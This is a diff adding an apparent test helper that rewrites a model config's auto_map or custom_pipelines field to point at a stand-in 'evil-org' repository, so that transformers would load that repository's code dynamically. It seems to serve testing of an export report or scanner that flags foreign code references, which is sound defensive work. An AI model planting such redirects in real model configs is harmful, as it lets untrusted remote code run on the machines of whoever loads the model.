@@ -152,3 +152,21 @@ def claim_larger_chunks(ckpt_dir: str, key: str, factor: int) -> None:
     for chunk in item.chunks:
         chunk.sizes = torch.Size([chunk.sizes[0] * factor, *chunk.sizes[1:]])
     _save_metadata(ckpt_dir, metadata)
+
+
+EVIL_MODEL = "evil-org/tools--modeling_llada2_moe.LLaDA2MoeModelLM"
+EVIL_PIPE = "evil-org/tools--pipe.EvilPipe"
+LOCAL_PIPE = {"impl": "pipe.LocalPipe", "pt": ["AutoModelForCausalLM"]}  # the dir's own code: kept
+
+
+def plant_foreign_code(config: dict, field: str) -> str:
+    """Make `config` name another repository's code in `field` (transformers resolves both to
+    dynamic code); returns the entry as the export report names it."""
+    if field == "auto_map":
+        config["auto_map"]["AutoModelForCausalLM"] = EVIL_MODEL
+        return f"AutoModelForCausalLM -> {EVIL_MODEL}"
+    config["custom_pipelines"] = {
+        "text-generation": {"impl": EVIL_PIPE, "pt": ["AutoModelForCausalLM"]},
+        "fill-mask": dict(LOCAL_PIPE),
+    }
+    return f"custom_pipelines.text-generation.impl -> {EVIL_PIPE}"
